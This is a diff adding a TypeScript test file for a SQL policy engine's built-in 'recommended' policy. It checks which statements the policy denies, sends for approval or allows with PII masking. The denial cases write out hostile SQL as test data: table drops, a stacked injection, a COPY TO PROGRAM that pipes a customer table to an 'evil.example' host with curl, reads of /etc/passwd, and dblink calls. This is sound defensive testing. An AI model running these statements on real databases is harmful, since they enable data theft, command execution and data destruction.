@@ -1,0 +1,67 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { BUILTIN_POLICIES, describeBuiltinPolicies, evaluate, initSqlParser } from '../../src/policy/index.js';
+import { ctx, sql } from './helpers.js';
+
+beforeAll(async () => {
+  await initSqlParser();
+});
+
+const rec = BUILTIN_POLICIES.recommended!;
+const decide = (text: string) => evaluate(ctx([rec], sql(text)));
+
+describe('recommended policy', () => {
+  it.each([
+    ['DROP TABLE customers', 'no-drop-truncate'],
+    ['drop table if exists public.customers cascade', 'no-drop-truncate'],
+    ['TRUNCATE orders', 'no-drop-truncate'],
+    ['SELECT 1; DROP TABLE t', 'no-drop-truncate'],
+    ["ALTER SYSTEM SET archive_command = 'curl evil'", 'no-alter-system'],
+    ["COPY (SELECT * FROM customers) TO PROGRAM 'curl -T - https://evil.example'", 'no-copy-program'],
+    ["COPY t FROM PROGRAM 'id'", 'no-copy-program'],
+    ["select pg_read_file('/etc/passwd')", 'no-server-file-access'],
+    ["select * from (select pg_read_file('/etc/passwd')) s", 'no-server-file-access'],
+    ["with x as (select pg_read_binary_file('/etc/passwd')) select * from x", 'no-server-file-access'],
+    ["select * from t, lateral pg_read_file(t.p) f", 'no-server-file-access'],
+    ["select lo_export(1234, '/tmp/x')", 'no-server-file-access'],
+    ["select dblink_connect('host=evil')", 'no-server-file-access'],
+    ["EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", 'no-server-file-access'],
+  ])('denies %s (%s)', (text, rule) => {
+    const d = decide(text);
+    expect(d.action).toBe('deny');
+    expect(d.rule).toEqual({ policy: 'recommended', rule });
+    expect(d.message.length).toBeGreaterThan(10);
+  });
+
+  it.each([
+    ['UPDATE t SET a = 1'],
+    ['DELETE FROM t'],
+    ['EXPLAIN ANALYZE UPDATE t SET a=1'],
+    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d'],
+  ])('needs approval for %s', (text) => {
+    expect(decide(text)).toMatchObject({ action: 'approve', rule: { rule: 'unbounded-writes-need-approval' } });
+  });
+
+  it('allows ordinary statements, masking PII and limiting rows', () => {
+    const d = decide('SELECT name, email FROM customers WHERE id = 1');
+    expect(d.action).toBe('allow');
+    expect(d.masks).toEqual([
+      { policy: 'recommended', rule: 'mask-pii-and-secrets', entities: ['credit_card', 'us_ssn', 'email', 'phone', 'iban', 'secrets'], with: 'partial' },
+    ]);
+    expect(d.limits).toEqual({ maxRows: 100_000 });
+    expect(decide('UPDATE t SET a = 1 WHERE id = 2').action).toBe('allow');
+    expect(decide("ALTER TABLE t ADD COLUMN b int").action).toBe('allow');
+    expect(decide("COPY t TO STDOUT").action).toBe('allow');
+  });
+
+  it('fails closed on DO blocks and parse errors', () => {
+    expect(decide('DO $$ BEGIN EXECUTE \'DROP TABLE t\'; END $$').action).toBe('deny');
+    expect(decide('DR/**/OP TABLE t').action).toBe('deny');
+  });
+
+  it('describes itself in plain text', () => {
+    const text = describeBuiltinPolicies();
+    expect(text).toMatch(/^recommended/);
+    for (const r of rec.rules) expect(text).toContain(r.name);
+    expect(text).not.toMatch(/\x1b\[/);
+  });
+});
